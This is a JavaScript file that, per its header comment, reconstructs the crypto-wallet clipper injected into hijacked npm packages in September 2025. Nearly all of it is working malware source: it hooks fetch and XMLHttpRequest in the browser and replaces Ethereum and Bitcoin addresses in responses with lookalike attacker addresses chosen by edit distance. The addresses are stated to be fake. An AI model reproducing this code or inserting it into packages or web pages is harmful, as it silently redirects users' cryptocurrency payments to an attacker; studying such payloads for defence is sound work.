// npm-clipper, written from Aikido Security (Charlie Eriksen), "npm debug and chalk packages
// compromised" (September 2025), and the other analyses of the hijacked popular packages that
// week: code added to widely used npm libraries runs when they are bundled into a web page,
// wraps fetch and XMLHttpRequest, and rewrites every crypto-wallet address in responses to
// the attacker's address that looks most like it (least edit distance), so the victim pays
// the attacker. All addresses below are made up.
(function () {
  var ETH = ["0x5c1E3f9B7a2D4c6E8f0A1b3C5d7E9f2A4b6C8d0E", "0xA4d2C6e8F0b1D3f5A7c9E1b3D5f7A9c1E3b5D7f9"];
  var BTC = ["bc1qz7x4c9v2n6m3k8j5h1g0f7d4s2a9p6o3i8u5y", "1FakeAddrXq7Rt3Yp9Wz5Kc2Lm8Nv4Bj6Hd"];
  function lev(a, b) {
    var d = [], i, j;
    for (i = 0; i <= a.length; i++) d[i] = [i];
    for (j = 0; j <= b.length; j++) d[0][j] = j;
    for (i = 1; i <= a.length; i++)
      for (j = 1; j <= b.length; j++)
        d[i][j] = Math.min(d[i - 1][j] + 1, d[i][j - 1] + 1, d[i - 1][j - 1] + (a[i - 1] === b[j - 1] ? 0 : 1));
    return d[a.length][b.length];
  }
  function closest(addr, list) {
    return list.reduce(function (best, c) { return lev(addr, c) < lev(addr, best) ? c : best; }, list[0]);
  }
  function swap(text) {
    return text
      .replace(/\b0x[a-fA-F0-9]{40}\b/g, function (m) { return closest(m, ETH); })
      .replace(/\b(bc1[a-z0-9]{25,39}|[13][a-km-zA-HJ-NP-Z1-9]{25,34})\b/g, function (m) { return closest(m, BTC); });
  }
  var of = window.fetch;
  if (of) window.fetch = function () {
    return of.apply(this, arguments).then(function (res) {
      var ct = res.headers.get("content-type") || "";
      if (!/json|text/.test(ct)) return res;
      return res.clone().text().then(function (t) {
        return new Response(swap(t), { status: res.status, statusText: res.statusText, headers: res.headers });
      });
    });
  };
  var desc = Object.getOwnPropertyDescriptor(XMLHttpRequest.prototype, "responseText");
  if (desc && desc.get) Object.defineProperty(XMLHttpRequest.prototype, "responseText", {
    get: function () { var t = desc.get.call(this); return typeof t === "string" ? swap(t) : t; }
  });
})();
